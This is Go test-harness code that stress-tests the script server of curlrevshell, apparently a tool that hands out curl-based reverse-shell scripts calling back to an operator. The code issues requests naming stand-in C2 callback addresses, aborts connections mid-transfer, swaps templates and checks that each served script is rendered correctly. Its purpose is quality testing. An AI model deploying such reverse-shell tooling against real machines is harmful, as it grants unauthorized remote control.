	for _, a := range carryFailActions {
		t, err := template.New("").Parse("lead {{.URL}} " + a + " trail")
		if err != nil {
			r.Inconclusive(fmt.Sprintf("carry: action %s does not parse (%v); not used", a, err))
			continue
		}
		if err := t.Execute(io.Discard, carryParams{"fp", "u.example", "id1"}); err == nil {
			r.Inconclusive(fmt.Sprintf("carry: action %s does not fail at execution; not used", a))
			continue
		}
		out = append(out, a)
	}
	return out
}

// ---- one sequence ----------------------------------------------------------------

type carryTmpl struct {
	nonce   int
	text    string
	segs    []carrySeg // of a valid template
	failing bool
	action  string
}

type carrySeq struct {
	c     *ctx
	r     *mon.Run
	idx   int
	class carryClass
	mode  string // sequential concurrent
	procs string // gomaxprocs1 allprocs
	l     *lsn
	path  string
	fails []string

	cur    carryTmpl
	nonces int
	reqNo  atomic.Int64

	hmu  sync.Mutex
	hist []string

	noticeMisses atomic.Int64

	// what the next well-behaved request follows (sequential mode)
	lastDisturb  string
	lastMidWrite bool
}

func (q *carrySeq) note(format string, a ...any) {
	q.hmu.Lock()
	q.hist = append(q.hist, fmt.Sprintf(format, a...))
	if len(q.hist) > 16 {
		q.hist = q.hist[len(q.hist)-16:]
	}
	q.hmu.Unlock()
}

func (q *carrySeq) history() []string {
	q.hmu.Lock()
	defer q.hmu.Unlock()
	return append([]string(nil), q.hist...)
}

// install writes the template by rename, so that a request still being
// served never reads half a file.
func (q *carrySeq) install(t carryTmpl) error {
	tmp := q.path + ".new"
	if err := os.WriteFile(tmp, []byte(t.text), 0o644); err != nil {
		return err
	}
	if err := os.Rename(tmp, q.path); err != nil {
		return err
	}
	q.cur = t
	return nil
}

func (q *carrySeq) newValid(rng *rand.Rand) carryTmpl {
	q.nonces++
	nonce := q.idx*1000 + q.nonces
	size := q.class.size*3/4 + rng.IntN(q.class.size/4+1)
	ll := carryLineLen(rng, size)
	text := carryTemplate(nonce, size, ll, rng.IntN(3))
	return carryTmpl{nonce: nonce, text: text, segs: carrySplit(text)}
}

// carryLineLen: lines of 64 bytes or more, at most about 8, 40, 200 or 600 of
// them (the cost of a request grows with the number of actions, not of bytes).
func carryLineLen(rng *rand.Rand, size int) int {
	ll := size / []int{8, 40, 200, 600}[rng.IntN(4)]
	if ll < 64 {
		ll = 64
	}
	return ll
}

func (q *carrySeq) newFailing(rng *rand.Rand) carryTmpl {
	q.nonces++
	nonce := q.idx*1000 + q.nonces
	size := q.class.size
	if size > 1<<20 {
		size = 1 << 20
	}
	size = size/4 + rng.IntN(size*3/4+1)
	ll := carryLineLen(rng, size)
	a := q.fails[rng.IntN(len(q.fails))]
	return carryTmpl{nonce: nonce, failing: true, action: a, text: carryFailing(nonce, size, ll, a)}
}

// request builds request number n of the sequence; its callback address is unique.
func (q *carrySeq) request(close bool) (raw, url string) {
	n := q.reqNo.Add(1)
	url = fmt.Sprintf("c%d-%d.carry.example:8443", q.idx, n)
	cl := ""
	if close {
		cl = "Connection: close\r\n"
	}
	switch n % 3 {
	case 0:
		raw = fmt.Sprintf("GET /c?c2=%s HTTP/1.1\r\nHost: other.example\r\n%s\r\n", url, cl)
	case 1:
		raw = fmt.Sprintf("GET /c HTTP/1.1\r\nHost: other.example\r\nc2: %s\r\n%s\r\n", url, cl)
	default:
		raw = fmt.Sprintf("GET /c HTTP/1.1\r\nHost: %s\r\n%s\r\n", url, cl)
	}
	return raw, url
}

// carryDial: a TLS connection whose TCP receive buffer and maximum segment
// size are set before the connection is made (0 = the system's default).  On
// the loopback interface the segment size is 64 KiB and the server's send
// buffer starts at twenty of those, so that a script of a megabyte disappears
// into the kernel at once; a client that announces the segment size of an
// Ethernet (as every remote client does) and a modest window makes the server
// wait for it, as over a real network.
func carryDial(addr string, rcvbuf, mss int) (*hk.Conn, *net.TCPConn, error) {
	d := &net.Dialer{Timeout: hk.Bound}
	if rcvbuf > 0 || mss > 0 {
		d.Control = func(network, address string, rc syscall.RawConn) error {
			var serr error
			if err := rc.Control(func(fd uintptr) {
				if rcvbuf > 0 {
					serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, rcvbuf)
				}
				if mss > 0 && serr == nil {
					serr = syscall.SetsockoptInt(int(fd), syscall.IPPROTO_TCP, syscall.TCP_MAXSEG, mss)
				}
			}); err != nil {
				return err
			}
			return serr
		}
	}
	raw, err := d.Dial("tcp", addr)
	if err != nil {
		return nil, nil, err
	}
	c := &hk.Conn{}
	tc := tls.Client(raw, &tls.Config{
		InsecureSkipVerify: true,
		VerifyConnection: func(cs tls.ConnectionState) error {
			c.Chain = cs.PeerCertificates
			return nil
		},
	})
	tc.SetDeadline(time.Now().Add(carryBound))
	if err := tc.Handshake(); err != nil {
		raw.Close()
		return nil, nil, err
	}
	c.Conn = tc
	c.R = bufio.NewReaderSize(tc, 64<<10)
	return c, raw.(*net.TCPConn), nil
}

func carryShow(b []byte, n int) string {
	if len(b) > n {
		return string(b[:n]) + "…"
	}
	return string(b)
}

func carryTail(b []byte, n int) string {
	if len(b) > n {
		return "…" + string(b[len(b)-n:])
	}
	return string(b)
}

func (q *carrySeq) baseWit(raw, url string, t carryTmpl) map[string]any {
	return map[string]any{
		"sequence": q.idx, "size_class": q.class.name, "mode": q.mode, "processors": q.procs, "gomaxprocs_now": runtime.GOMAXPROCS(0),
		"request": raw, "callback_address": url, "template_nonce": t.nonce, "template_bytes": len(t.text), "template_start": carryShow([]byte(t.text), 200),
		"template_fails_at_execution": t.failing, "history_before": q.history(),
	}
}

// polite sends one request and reads the whole answer.  *kc is the
// connection to use and to keep (nil: a fresh one, closed afterwards).
func (q *carrySeq) polite(kc **hk.Conn, t carryTmpl, after string, afterMidWrite bool) {
	r := q.r
	if carryDebug {
		t0 := time.Now()
		defer func() { r.Logf("carry %d polite %d bytes: %.3fs", q.idx, len(t.text), time.Since(t0).Seconds()) }()
	}
	var conn *hk.Conn
	fresh := true
	if kc != nil && *kc != nil {
		conn, fresh = *kc, false
	} else {
		var err error
		if conn, _, err = carryDial(q.l.s.Addr, 0, 0); err != nil {
			r.Inconclusive(fmt.Sprintf("carry %d: dial: %v", q.idx, err))
			return
		}
	}
	keep := kc != nil
	done := func(ok bool) {
		if keep && ok {
			*kc = conn
			return
		}
		conn.Close()
		if kc != nil {
			*kc = nil
		}
	}
	raw, url := q.request(!keep)
	conn.SetDeadline(time.Now().Add(carryBound))
	if _, err := conn.Write([]byte(raw)); err != nil {
		done(false)
		if !fresh { // the server may have closed an idle connection: not held against it
			r.Count("carry_keepalive_connections_found_closed", 1)
			return
		}
		r.Inconclusive(fmt.Sprintf("carry %d: write: %v", q.idx, err))
		return
	}
	hr, err := http.ReadResponse(conn.R, &http.Request{Method: "GET"})
	if err != nil {
		done(false)
		if !fresh {
			r.Count("carry_keepalive_connections_found_closed", 1)
			return
		}
		r.Inconclusive(fmt.Sprintf("carry %d: reading the response of a well-behaved client: %v", q.idx, err))
		return
	}
	body, err := io.ReadAll(hr.Body)
	hr.Body.Close()
	if err != nil {
		done(false)
		r.Inconclusive(fmt.Sprintf("carry %d: the response of a well-behaved client did not arrive completely (%d bytes, then %v)", q.idx, len(body), err))
		return
	}
	done(!hr.Close)
	r.Eval(1)
	how := "fresh"
	if !fresh {
		how = "keepalive"
	}
	framing := "content-length"
	if len(hr.TransferEncoding) > 0 {
		framing = "chunked"
	}
	wit := q.baseWit(raw, url, t)
	wit["connection"], wit["status"], wit["body_bytes"], wit["framing"] = how, hr.StatusCode, len(body), framing
	wit["body_start"], wit["body_end"] = carryShow(body, 300), carryTail(body, 300)
	wit["follows"] = after
	q.note("request %s (%s) -> %d, %d bytes", url, how, hr.StatusCode, len(body))

	if t.failing {
		r.Count("carry_exec_fail_checked", 1)
		r.Count("error_responses_checked", 1)
		r.Distinct(fmt.Sprintf("carry|fail|%s|%s|%s", q.class.name, q.procs, t.action))
		if hr.StatusCode < 400 {
			q.c.violate("carry", q.idx, "template-error-with-2xx", fmt.Sprintf("the template fails at execution (%s after %d bytes of output) but /c answered %d with %d bytes", t.action, len(t.text), hr.StatusCode, len(body)), wit)
		}
		if len(body) > 0 {
			q.c.violate("carry", q.idx, "template-error-with-body", fmt.Sprintf("the template fails at execution (%s); status %d came with a %d-byte body (a partial script)", t.action, hr.StatusCode, len(body)), wit)
		}
		return
	}

	r.Count("carry_scripts_checked", 1)
	if hr.StatusCode != 200 {
		q.c.violate("carry", q.idx, "carry-valid-template-not-served", fmt.Sprintf("the template file holds a valid %d-byte template but /c answered %d (request after %s)", len(t.text), hr.StatusCode, after), wit)
		return
	}
	pin := ""
	if len(conn.Chain) > 0 {
		pin = hk.Pin(conn.Chain[0])
	}
	id := carryFirstID(body, pin)
	r.Distinct(fmt.Sprintf("carry|%s|%s|%s|%s|after:%s|%s|%s", q.class.name, q.mode, q.procs, how, after, framing, raw[:12]))
	if id != "" && carryEqual(body, t.segs, id, url, pin) {
		r.Count("carry_scripts_matched", 1)
		r.Count("carry_scripts_matched:"+q.class.name, 1)
		r.Count("carry_scripts_matched:"+q.procs, 1)
		r.Count("carry_scripts_matched:"+q.mode, 1)
		r.Count("carry_scripts_matched:"+how, 1)
		r.Count("carry_scripts_matched:"+framing, 1)
		r.Count("pins_compared", 1)
		if after != "" {
			r.Count("carry_scripts_matched_after:"+after, 1)
			if afterMidWrite {
				r.Count("carry_scripts_matched_after_mid_write_abort", 1)
				r.Count("carry_scripts_matched_after_mid_write_abort:"+q.procs, 1)
			}
		}
		q.c.addID("carry", q.idx, id, fmt.Sprintf("carry %d request %s", q.idx, url))
		r.Sample("carry:"+q.mode, map[string]any{"sequence": q.idx, "size_class": q.class.name, "processors": q.procs, "request": raw, "follows": after, "script_bytes": len(body), "script_start": carryShow(body, 160), "id": id, "history_before": q.history()})
		return
	}
	r.Count("carry_scripts_mismatched", 1)
	if q.c.carryMismatches.Add(1) > 8 { // a systematic defect: the first ones are written out
		return
	}
	key, what := q.diagnose(body, t, id, url, pin, wit)
	if after != "" {
		what += "; the request followed " + after
	}
	q.c.violate("carry", q.idx, key, what, wit)
}

// diagnose says how a complete 200 body differs from the reference rendering.
func (q *carrySeq) diagnose(body []byte, t carryTmpl, id, url, pin string, wit map[string]any) (key, what string) {
	want := carryRender(t.text, id, url, pin)
	var ids []string
	cnt := map[string]int{}
	scan := body
	if pin != "" { // the pin is base64 and may itself hold "/i/" or "/o/"
		scan = bytes.ReplaceAll(body, []byte(pin), []byte("PIN"))
	}
	for _, m := range carryAnyIDRe.FindAllSubmatch(scan, -1) {
		s := string(m[1])
		if cnt[s] == 0 && len(ids) < 8 {
			ids = append(ids, s)
		}
		cnt[s]++
	}
	var urls []string
	useen := map[string]bool{}
	for _, m := range carryURLRe.FindAllSubmatch(body, -1) {
		if s := string(m[1]); !useen[s] && len(urls) < 8 {
			useen[s] = true
			urls = append(urls, s)
		}
	}
	idc := map[string]int{}
	for _, s := range ids {
		idc[s] = cnt[s]
	}
	wit["ids_in_body"], wit["id_occurrences"], wit["callback_addresses_in_body"] = ids, idc, urls
	wit["shebangs_in_body"] = bytes.Count(body, []byte("#!/bin/sh\n"))
	wit["reference_bytes"] = len(want)
	d := 0
	for d < len(body) && d < len(want) && body[d] == want[d] {
		d++
	}
	wit["first_difference_at"] = d
	lo := d - 80
	if lo < 0 {
		lo = 0
	}
	wit["body_around_first_difference"] = carryShow(body[lo:], 240)
	head := t.text[:strings.Index(t.text, "{{")]
	startsRight := bytes.HasPrefix(body, []byte(head))
	// whose bytes are the foreign ones?
	var owners []string
	q.c.amu.Lock()
	for _, s := range ids {
		if o, ok := q.c.aborted[s]; ok {
			owners = append(owners, fmt.Sprintf("%s was handed to %s", s, o))
		}
	}
	q.c.amu.Unlock()
	wit["ids_of_clients_that_went_away"] = owners
	// does the body end with the complete rendering for one of its IDs?
	for _, s := range ids {
		wl := carryLen(t.segs, s, url, pin)
		if len(body) > wl && carryEqual(body[len(body)-wl:], t.segs, s, url, pin) {
			wit["own_rendering_starts_at"] = len(body) - wl
			return "script-mixed-with-other-request", fmt.Sprintf("the %d-byte script for %s is %d bytes that belong to another request (IDs %v; %s) followed by the request's own rendering (ID %s, %d bytes): it does not start with the template's first bytes and carries %d different IDs",
				len(body), url, len(body)-wl, ids, strings.Join(owners, ", "), s, wl, len(ids))
		}
	}
	if len(ids) > 1 || len(urls) > 1 {
		return "script-mixed-with-other-request", fmt.Sprintf("the %d-byte script for %s carries %d different IDs %v and callback addresses %v (reference rendering: one ID, %d bytes; starts with the template's first bytes: %v; %s)",
			len(body), url, len(ids), ids, urls, len(want), startsRight, strings.Join(owners, ", "))
	}
	return "custom-template-render-differs", fmt.Sprintf("the %d-byte script for %s is not the rendering of the %d-byte template in the file (reference %d bytes, first difference at byte %d; starts with the template's first bytes: %v)",
		len(body), url, len(t.text), len(want), d, startsRight)
}

// noticeFor matches the operator notice of the script for url.
func carryNoticeFor(url string) func(bk.Event) bool {
	suffix := " URL:" + url
	return func(e bk.Event) bool {
		return e.Kind == "op" && strings.HasSuffix(e.S, suffix) && strings.Contains(e.S, "Sent script")
	}
}

// abort: a client that asks for the script and goes away.  It returns true if
// the handler was seen to end only after the client had left (the server was
// still at it: for a large script, in the middle of sending).
func (q *carrySeq) abort(kind string, rng *rand.Rand, t carryTmpl) bool {
	r := q.r
	if carryDebug {
		t0 := time.Now()
		defer func() {
			r.Logf("carry %d abort %s %d bytes: %.3fs", q.idx, kind, len(t.text), time.Since(t0).Seconds())
		}()
	}
	rcvbuf := []int{32 << 10, 32 << 10, 64 << 10, 256 << 10, 0}[rng.IntN(5)]
	mss := []int{1400, 1400, 536, 0}[rng.IntN(4)]
	conn, tcp, err := carryDial(q.l.s.Addr, rcvbuf, mss)
	if err != nil {
		r.Inconclusive(fmt.Sprintf("carry %d: dial: %v", q.idx, err))
		return false
	}
	closed := false
	defer func() {
		if !closed {
			conn.Close()
		}
	}()
	conn.SetDeadline(time.Now().Add(carryBound))
	// sometimes the connection has served a complete script before
	if rng.IntN(5) == 0 && !t.failing {
		kc := conn
		pk := &kc
		q.polite(pk, t, "", false)
		if *pk == nil {
			closed = true
			r.Count("carry_abort_connection_lost_before_abort", 1)
			return false
		}
		conn.SetDeadline(time.Now().Add(carryBound))
		r.Count("carry_aborts_on_second_request_of_connection", 1)
	}
	raw, url := q.request(false)
	from := q.l.s.Log.Len()
	if _, err := conn.Write([]byte(raw)); err != nil {
		r.Inconclusive(fmt.Sprintf("carry %d: write: %v", q.idx, err))
		return false
	}
	read := 0
	switch {
	case strings.HasSuffix(kind, "-blind"):
		time.Sleep(time.Duration(rng.IntN(30)) * time.Millisecond) // shapes the schedule only
	default:
		k := 1
		if strings.HasSuffix(kind, "-part") && !t.failing { // (the answer to a failing template has no body to read a part of)
			max := len(t.text) / 2
			if max > 256<<10 {
				max = 256 << 10
			}
			if max < 2 {
				max = 2
			}
			// the number of bits uniform, then uniform among the numbers of that many bits
			b := 1 + rng.IntN(bitLen(max))
			k = 1<<(b-1) + rng.IntN(1<<(b-1))
			if k > max {
				k = max
			}
		}
		buf := make([]byte, k)
		n, err := io.ReadFull(conn.R, buf)
		read = n
		if err != nil {
			r.Count("carry_abort_reads_failed", 1)
			r.Inconclusive(fmt.Sprintf("carry %d: a client that wanted to read %d bytes of its %d-byte script before leaving got %d, then %v", q.idx, k, len(t.text), n, err))
			return false
		}
		if m := carryHeadIDRe.FindSubmatch(buf); m != nil && string(m[2]) == url {
			id := string(m[1])
			q.c.amu.Lock()
			q.c.aborted[id] = fmt.Sprintf("the client of sequence %d that asked for %s and left (%s) after %d bytes", q.idx, url, kind, n)
			q.c.amu.Unlock()
			q.c.addID("carry", q.idx, id, fmt.Sprintf("carry %d request %s (client left)", q.idx, url))
			r.Count("carry_abort_ids_seen", 1)
		} else if m != nil && !t.failing {
			// the first line that names a request names another one: what this client
			// got before it left is not the beginning of its own script
			wit := q.baseWit(raw, url, t)
			wit["bytes_read_before_leaving"], wit["received"] = n, carryShow(buf, 600)
			wit["first_id_in_received"], wit["first_callback_address_in_received"] = string(m[1]), string(m[2])
			r.Count("carry_scripts_mismatched", 1)
			q.c.violate("carry", q.idx, "script-mixed-with-other-request", fmt.Sprintf("the first %d bytes of the answer to the request for %s (read by a client that then left) name the callback address %s and the ID %s: they belong to another request's script", n, url, m[2], m[1]), wit)
		}
	}
	// had the handler ended before the client left?
	pred := carryNoticeFor(url)
	doneBefore := false
	if mseq, ok := q.l.s.Mark(fmt.Sprintf("carry-mark %s", url)); ok {
		if ev, found := q.l.s.Log.Find(from, pred); found && ev.Seq < mseq {
			doneBefore = true
		}
	} else {
		doneBefore = true // unknown: not counted as mid-write
	}
	switch {
	case strings.HasPrefix(kind, "rst-"):
		tcp.SetLinger(0)
		tcp.Close()
	case strings.HasPrefix(kind, "fin-"):
		conn.SetDeadline(time.Now().Add(2 * time.Second))
		conn.Close() // close_notify, then the socket
	default: // rawclose: the socket is closed under TLS
		tcp.Close()
	}
	closed = true
	r.Count("carry_aborts", 1)
	r.Count("carry_aborts:"+kind, 1)
	r.Count("carry_aborts:"+q.procs, 1)
	r.Distinct(fmt.Sprintf("carry|abort|%s|%s|%s|%s|rcvbuf%d|mss%d|read%d", q.class.name, q.mode, q.procs, kind, rcvbuf, mss, bitLen(read)))
	// let the handler end before the next client comes (ordering aid, no verdict)
	wait := 5 * time.Second
	if strings.HasSuffix(kind, "-blind") || t.failing || q.noticeMisses.Load() >= 3 {
		wait = 150 * time.Millisecond
	}
	_, seen := q.l.s.Log.Wait(from, wait, pred)
	mid := false
	switch {
	case seen && !doneBefore:
		mid = true
		r.Count("carry_aborts_mid_write", 1)
		r.Count("carry_aborts_mid_write:"+q.procs, 1)
		r.Count("carry_aborts_mid_write:"+q.class.name, 1)
		r.Count("carry_aborts_mid_write:"+q.procs+":"+q.class.name, 1)
	case seen:
		r.Count("carry_aborts_after_handler_end", 1)
		r.Count("carry_aborts_after_handler_end:"+q.procs+":"+q.class.name, 1)
	default:
		r.Count("carry_aborts_handler_end_not_seen", 1)
		r.Count("carry_aborts_handler_end_not_seen:"+q.procs+":"+kind, 1)
		if wait > time.Second {
			q.noticeMisses.Add(1)
		}
	}
	q.note("client asked for %s, read %d bytes, left (%s, receive buffer %d, segment size %d); handler ended before it left: %v, seen to end afterwards: %v", url, read, kind, rcvbuf, mss, doneBefore, seen)
	return mid
}

func bitLen(n int) int {
	k := 0
	for n > 0 {
		k++
		n >>= 1
	}
	return k
}

func (c *ctx) carrySequence(idx int, fails []string) {
	r := c.r
	procs1, concurrent, class := carryShape(idx)
	q := &carrySeq{c: c, r: r, idx: idx, class: class, mode: "sequential", procs: "allprocs", fails: fails}
	if concurrent {
		q.mode = "concurrent"
	}
	if procs1 {
		q.procs = "gomaxprocs1"
	}
	if (runtime.GOMAXPROCS(0) == 1) != procs1 {
		r.Inconclusive(fmt.Sprintf("carry %d: wanted %s, GOMAXPROCS is %d", idx, q.procs, runtime.GOMAXPROCS(0)))
		return
	}
	rng := r.Rng("carry", idx)
	dir := filepath.Join(r.Work, fmt.Sprintf("carry-%d", idx))
	if err := os.MkdirAll(dir, 0o755); err != nil {
		r.Inconclusive(fmt.Sprintf("carry %d: %v", idx, err))
		return
	}
	defer os.RemoveAll(dir)
	q.path = filepath.Join(dir, "callback.tmpl")
	if err := q.install(q.newValid(rng)); err != nil {
		r.Inconclusive(fmt.Sprintf("carry %d: %v", idx, err))
		return
	}
	laddr := "127.0.0.1:0"
	if idx%3 == 2 {
		laddr = "[::1]:0"
	}
	l, err := startLsn("carry", laddr, hk.Config{TmplF: q.path, OchCap: 4096})
	if err != nil {
		r.Inconclusive(fmt.Sprintf("carry %d: server did not start: %v", idx, err))
		return
	}
	defer l.s.Stop()
	q.l = l
	steps := class.steps[0]
	if r.Thorough() {
		steps = class.steps[1]
	}
	r.Count("carry_sequences", 1)
	r.Count("carry_sequences:"+q.procs, 1)
	r.Count("carry_sequences:"+q.mode, 1)
	r.Count("carry_sequences:"+class.name, 1)

	// before anything rude happens
	q.polite(nil, q.cur, "", false)

	if !concurrent {
		var ka *hk.Conn
		defer func() {
			if ka != nil {
				ka.Close()
			}
		}()
		for step := 0; step < steps; step++ {
			d := carryDraw[rng.IntN(len(carryDraw))]
			if step < len(carryTour) {
				d = carryTour[(step+idx/4)%len(carryTour)]
				if step == 0 {
					d = "rst-part"
				}
			}
			after, mid := d, false
			switch d {
			case "none":
				after = ""
			case "rewrite":
				if err := q.install(q.newValid(rng)); err != nil {
					r.Inconclusive(fmt.Sprintf("carry %d: %v", idx, err))
					return
				}
				r.Count("carry_template_rewrites", 1)
				q.note("template rewritten: t%d, %d bytes", q.cur.nonce, len(q.cur.text))
				// a client leaves in the middle of the new version, too
				if rng.IntN(2) == 0 {
					mid = q.abort("rst-part", rng, q.cur)
					after = "rewrite+rst-part"
				}
			case "exec-fail":
				if len(q.fails) == 0 {
					continue
				}
				if err := q.install(q.newFailing(rng)); err != nil {
					r.Inconclusive(fmt.Sprintf("carry %d: %v", idx, err))
					return
				}
				q.note("template replaced by one that fails at execution (%s after about %d bytes of output)", q.cur.action, len(q.cur.text))
				n := 1 + rng.IntN(2)
				for j := 0; j < n; j++ {
					if rng.IntN(3) == 0 {
						q.abort(carryAbortKinds[rng.IntN(len(carryAbortKinds))], rng, q.cur)
					}
					kc := &ka
					if rng.IntN(2) == 0 {
						kc = nil
					}
					q.polite(kc, q.cur, "", false)
				}
				if err := q.install(q.newValid(rng)); err != nil {
					r.Inconclusive(fmt.Sprintf("carry %d: %v", idx, err))
					return
				}
				q.note("valid template again: t%d, %d bytes", q.cur.nonce, len(q.cur.text))
			default:
				mid = q.abort(d, rng, q.cur)
				if rng.IntN(4) == 0 { // two clients leave one after the other
					d2 := carryAbortKinds[rng.IntN(len(carryAbortKinds))]
					if q.abort(d2, rng, q.cur) {
						mid = true
					}
					_ = d2 // the follow-up is counted under the first
				}
			}
			// the well-behaved clients that come next
			if rng.IntN(4) == 0 {
				t := q.cur
				mon.Parallel(3, 3, func(int) { q.polite(nil, t, after, mid) })
				r.Count("carry_bulk_followups", 1)
			} else {
				n := 1 + rng.IntN(2)
				for j := 0; j < n; j++ {
					kc := &ka
					if (step+j)%2 == 0 {
						kc = nil
					}
					q.polite(kc, q.cur, after, mid)
					after, mid = "", false
				}
			}
		}
		r.Eval(1)
		return
	}

	// concurrent: two well-behaved clients (one on a persistent connection)
	// and two that keep leaving, all at once on the same server
	t := q.cur
	var wg sync.WaitGroup
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			wr := r.Rng("carry-worker", idx*8+w)
			var ka *hk.Conn
			defer func() {
				if ka != nil {
					ka.Close()
				}
			}()
			for k := 0; k < steps; k++ {
				switch w {
				case 0:
					q.polite(&ka, t, "concurrent-aborts", false)
				case 1:
					q.polite(nil, t, "concurrent-aborts", false)
				default:
					q.abort(carryAbortKinds[(k+w)%len(carryAbortKinds)], wr, t)
				}
			}
		}(w)
	}
	wg.Wait()
	for j := 0; j < 3; j++ {
		q.polite(nil, t, "concurrent-aborts-over", false)
	}
	r.Eval(1)
}

// ---- processes -------------------------------------------------------------------

// ChildCarry runs the carry sequences given in rest[1] (comma-separated) with
// GOMAXPROCS(1) if rest[0] is "1".
func ChildCarry(args []string) int {
	r, dump, rest := mon.ChildRun(args, Level)
	if len(rest) < 2 {
		fmt.Fprintln(os.Stderr, "c07carry: processors and sequence list expected")
		return 2
	}
	workers := 3
	if rest[0] == "1" {
		runtime.GOMAXPROCS(1)
		workers = 1
	}
	var list []int
	for _, s := range strings.Split(rest[1], ",") {
		if n, err := strconv.Atoi(s); err == nil {
			list = append(list, n)
		}
	}
	c := newCtx(r)
	fails := carryFailActionsChecked(r)
	r.Count("carry_fail_actions_usable", int64(len(fails)))
	mon.Parallel(len(list), workers, func(k int) {
		t0 := time.Now()
		c.carrySequence(list[k], fails)
		r.Logf("carry %d (GOMAXPROCS %d) took %.1fs", list[k], runtime.GOMAXPROCS(0), time.Since(t0).Seconds())
	})
	if err := r.DumpChild(dump); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	return 0
}

func (c *ctx) carryEngine() {
	r := c.r
	if !r.WantEngine("carry") {
		return
	}
	n := carrySeqCount(r)
	var lists [2][]string // [0] all processors, [1] one processor
	for i := 0; i < n; i++ {
		if !r.Want("carry", i) {
			continue
		}
		p1, _, _ := carryShape(i)
		k := 0
		if p1 {
			k = 1
		}
		lists[k] = append(lists[k], strconv.Itoa(i))
	}
	timeout := 15 * time.Minute
	if r.Thorough() {
		timeout = 90 * time.Minute
	}
	var wg sync.WaitGroup
	for k, l := range lists {
		if len(l) == 0 {
			continue
		}
		wg.Add(1)
		go func(k int, l []string) {
			defer wg.Done()
			res, err := r.RunChild("", "c07carry", timeout, strconv.Itoa(k), strings.Join(l, ","))
			if os.Getenv("CARRY_DEBUG") != "" {
				os.Stderr.Write(res.Stderr)
			}
			if err != nil {
				tail := res.Stderr
				if len(tail) > 2000 {
					tail = tail[len(tail)-2000:]
				}
				r.Inconclusive(fmt.Sprintf("carry: the child process (processors: %s) ended without a result: %v; stderr: %s", []string{"all", "1"}[k], err, tail))
			}
		}(k, l)
	}
	wg.Wait()
}

func carryFloors(r *mon.Run) {
	n := int64(carrySeqCount(r))
	r.Floor("carry_sequences:gomaxprocs1", n/2)
	r.Floor("carry_sequences:allprocs", n/2)
	r.Floor("carry_sequences:sequential", n/2)
	r.Floor("carry_sequences:concurrent", n/2)
	for _, cl := range carryClasses {
		r.Floor("carry_sequences:"+cl.name, n/int64(len(carryClasses)))
		r.Floor("carry_scripts_matched:"+cl.name, int64(r.N(20, 150)))
	}
	r.Floor("carry_scripts_matched", int64(r.N(800, 6000)))
	r.Floor("carry_scripts_matched:gomaxprocs1", int64(r.N(400, 2500)))
	r.Floor("carry_scripts_matched:allprocs", int64(r.N(400, 2500)))
	r.Floor("carry_scripts_matched:keepalive", int64(r.N(250, 1200)))
	r.Floor("carry_scripts_matched:chunked", int64(r.N(500, 3000)))
	r.Floor("carry_scripts_matched:content-length", int64(r.N(100, 300)))
	for _, k := range carryAbortKinds {
		r.Floor("carry_aborts:"+k, int64(r.N(50, 250)))
	}
	// clients that left while the handler was still at it (for the three large
	// classes: while the script was being sent), and the scripts served next
	r.Floor("carry_aborts_mid_write", int64(r.N(100, 700)))
	r.Floor("carry_aborts_mid_write:gomaxprocs1", int64(r.N(40, 250)))
	r.Floor("carry_aborts_mid_write:allprocs", int64(r.N(60, 350)))
	for _, cl := range carryClasses[4:] {
		r.Floor("carry_aborts_mid_write:"+cl.name, int64(r.N(8, 24)))
		r.Floor("carry_aborts_mid_write:gomaxprocs1:"+cl.name, int64(r.N(4, 12)))
	}
	r.Floor("carry_scripts_matched_after_mid_write_abort", int64(r.N(40, 250)))
	r.Floor("carry_scripts_matched_after_mid_write_abort:gomaxprocs1", int64(r.N(15, 100)))
	r.Floor("carry_scripts_matched_after:concurrent-aborts", int64(r.N(250, 1500)))
	r.Floor("carry_scripts_matched_after:exec-fail", int64(r.N(25, 150)))
	r.Floor("carry_exec_fail_checked", int64(r.N(30, 200)))
	r.Floor("carry_template_rewrites", int64(r.N(12, 80)))
	r.Floor("carry_aborts_on_second_request_of_connection", int64(r.N(60, 350)))
	r.Floor("carry_abort_ids_seen", int64(r.N(80, 500)))
	r.Floor("carry_fail_actions_usable", 12) // 8 in each of the two child processes
}

package c07

// Real-binary engines: main's wiring between the command line and hsrv.
//
//	bintmpl    the template histories of template.go against `curlrevshell
//	           -callback-template PATH` (the program on a pty, its working
//	           directory = its HOME): the template missing (or its link
//	           dangling) at start-up and created later, edited, removed,
//	           re-created; PATH a symbolic link / through a symlinked directory;
//	           PATH absolute, relative, ./ ../ and x/../ spellings; the flag
//	           spelled -f V, -f=V, --f V, --f=V or given twice
//	binscript  the script oracle of the precedence engine (pin = the key of that
//	           handshake, both commands agree, fresh safe ID, authority by the
//	           stated precedence, 'Sent script' notice) against the program
//	           under a CONFIGURATION MATRIX of its other documented options,
//	           each alone and in pairs drawn by index
//	binexec    scripts served by the program under such configurations are run by
//	           /bin/sh with the real curl: attach notices, ready notice, a command
//	           round trip typed at the program's terminal

import (
	"fmt"
	"math/rand/v2"
	"net"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// ---- the program's options ---------------------------------------------------------

type binCfg struct {
	Args     []string `json:"args"`
	Env      []string `json:"extra_env,omitempty"`
	Home     string   `json:"home_and_working_directory"`
	Opts     []string `json:"options"`
	Forms    []string `json:"flag_spellings"`
	oneShell bool
	tmplPath string // binscript: a template file equivalent to the default one, to be (re-)created before the first request
	tmplLate bool
}

type cfgBuilder struct {
	r    *mon.Run
	rng  *rand.Rand
	home string
	cfg  *binCfg
	// the option named here is not drawn (bintmpl sets -callback-template itself)
}

var valueForms = []string{"-f v", "-f=v", "--f v", "--f=v"}
var boolForms = []string{"-f", "--f", "-f=true", "--f=true"}

func (b *cfgBuilder) value(name, v string) {
	form := valueForms[b.rng.IntN(len(valueForms))]
	b.valueAs(form, name, v)
}

func (b *cfgBuilder) valueAs(form, name, v string) {
	switch form {
	case "-f v":
		b.cfg.Args = append(b.cfg.Args, "-"+name, v)
	case "-f=v":
		b.cfg.Args = append(b.cfg.Args, "-"+name+"="+v)
	case "--f v":
		b.cfg.Args = append(b.cfg.Args, "--"+name, v)
	default:
		b.cfg.Args = append(b.cfg.Args, "--"+name+"="+v)
	}
	b.cfg.Forms = append(b.cfg.Forms, form)
